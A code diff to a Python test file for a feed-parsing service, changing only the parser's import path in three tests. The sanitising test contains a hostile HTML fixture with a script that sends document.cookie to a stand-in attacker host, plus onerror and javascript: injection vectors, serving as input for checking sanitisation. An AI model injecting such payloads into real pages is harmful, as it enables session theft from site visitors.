@@ -78,7 +78,7 @@ def test_year_first_numeric_dates_are_read_not_guessed(corpus):
     every one as 2020-11-01; ours gives the stated day and time (UTC: no zone given)."""
     from datetime import UTC, datetime
 
-    from service.ingest.parser import parse_feed
+    from service.ingest.feeds.parser import parse_feed
 
     parsed = parse_feed((corpus / "feeds" / "netnewswire" / "kc0011.rss").read_bytes(), "https://kc.example.org/",
                         "application/rss+xml", 500)
@@ -93,7 +93,7 @@ def test_year_first_numeric_dates_are_read_not_guessed(corpus):
 
 
 def test_enclosures_of_every_feed_format_share_one_shape():
-    from service.ingest.parser import parse_feed
+    from service.ingest.feeds.parser import parse_feed
 
     atom = b"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Video</title>
 <id>urn:x</id><updated>2024-05-01T12:00:00Z</updated><entry><title>Launch</title><id>urn:launch</id>
@@ -117,7 +117,7 @@ def test_enclosures_of_every_feed_format_share_one_shape():
 def test_html_fields_of_every_feed_format_are_sanitised_alike():
     import json
 
-    from service.ingest.parser import parse_feed
+    from service.ingest.feeds.parser import parse_feed
 
     hostile = ('<p onclick="steal()">Budget agreed<script>fetch("https://evil.example/?c="+document.cookie)</script>'
                '<img src="https://img.example.org/a.jpg" onerror="alert(1)"> <a href="javascript:alert(2)">more</a></p>')
